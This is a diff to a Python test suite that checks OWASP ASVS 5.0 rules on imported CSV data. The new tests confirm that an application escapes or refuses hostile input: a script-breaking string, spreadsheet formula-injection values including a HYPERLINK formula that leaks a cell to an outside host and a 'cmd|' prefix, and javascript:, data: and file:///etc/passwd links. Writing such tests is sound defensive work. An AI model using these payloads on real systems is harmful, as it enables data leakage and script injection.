@@ -1,7 +1,9 @@
 # SPDX-FileCopyrightText: 2026 werkzaam contributors
 # SPDX-License-Identifier: EUPL-1.2
 """Requirements of OWASP ASVS 5.0 by their ids: logs, errors, files and what is configured."""
+import csv
 import datetime
+import io
 import json
 import os
 import re
@@ -10,7 +12,7 @@ import threading
 import time
 import unittest
 
-from program import DONE, HOME, Filled, run
+from program import DONE, HOME, REFUSED, Filled, run
 from test_asvs import Asvs
 from test_provider import HERE
 from town import headers_of
@@ -187,6 +189,53 @@ class Files(Asvs):
             answer = self.get(path, MANAGER)
             self.assertIn('immutable', answer.headers['Cache-Control'])
             self.assertRegex(answer.headers['Content-Type'], r'^(text/(javascript|css)|font/|image/)')
+
+
+class Imports(Filled):
+    """Text of a file that somebody took in, on its way to programs and to spreadsheets."""
+
+    def with_changed(self, kind, **values):
+        """The shipped table of this kind with other values in its first row; what importing says."""
+        with open(f'{HOME}/data/{kind}.csv', encoding='utf8', newline='') as file:
+            rows = list(csv.DictReader(file))
+        rows[0].update(values)
+        return rows[0], self.take_in(kind, self.table(f'{kind}.csv', rows))
+
+    def test_V1_2_3_text_stays_text_in_json(self):
+        hostile = 'a"},{"id":"x\\","</script><!--\u2028\u2029\U0001f6b2&lt;\'`${x}'
+        row, done = self.with_changed('interventions', name=hostile)
+        self.assertEqual(done.returncode, DONE, done.stderr)
+        server = self.serve()
+        self.assertEqual(server.get(f'/v1/interventions/{row["code"]}').json()['name'], hostile)
+        names = [item['name'] for item in
+                 server.get('/v1/interventions?pageSize=100&sort=name').json()['items']]
+        self.assertEqual(names.count(hostile), 1)
+
+    def test_V1_2_10_no_formula_reaches_a_spreadsheet(self):
+        for start in ('=', '+', '-', '@', '=HYPERLINK("https://elsewhere.example?"&A1,"x")'):
+            name = f'{start}cmd|x'
+            row, done = self.with_changed('interventions', name=name)
+            self.assertEqual(done.returncode, DONE, done.stderr)
+            with_name = None
+            server = self.serve()
+            answer = server.get('/v1/interventions/_export', Accept='text/csv')
+            for line in csv.DictReader(io.StringIO(answer.body.decode())):
+                if line['code'] == row['code']:
+                    with_name = line['name']
+            self.assertEqual(with_name, "'" + name)
+            self.assertNotRegex(answer.body.decode(), r'(?m)(^|,)"?[=+@]')
+            server.stop()
+
+    def test_V1_2_2_only_web_addresses_become_links(self):
+        for address in ('javascript:alert(1)', 'JavaScript:alert(1)', 'data:text/html,x', 'file:///etc/passwd',
+                        'vbscript:x', ' javascript:x', '//elsewhere.example', 'https:javascript:x',
+                        'ftp://elsewhere.example/x', 'java\tscript:alert(1)'):
+            for kind, column in (('sources', 'url'), ('interventions', 'manual_url'),
+                                 ('evaluations', 'url')):
+                _, done = self.with_changed(kind, **{column: address})
+                self.assertEqual(done.returncode, REFUSED, (kind, address, done.stdout))
+        _, done = self.with_changed('sources', url='https://www.example.nl/een?x=1#a')
+        self.assertEqual(done.returncode, DONE, done.stderr)
 
 
 class Configuration(Filled):
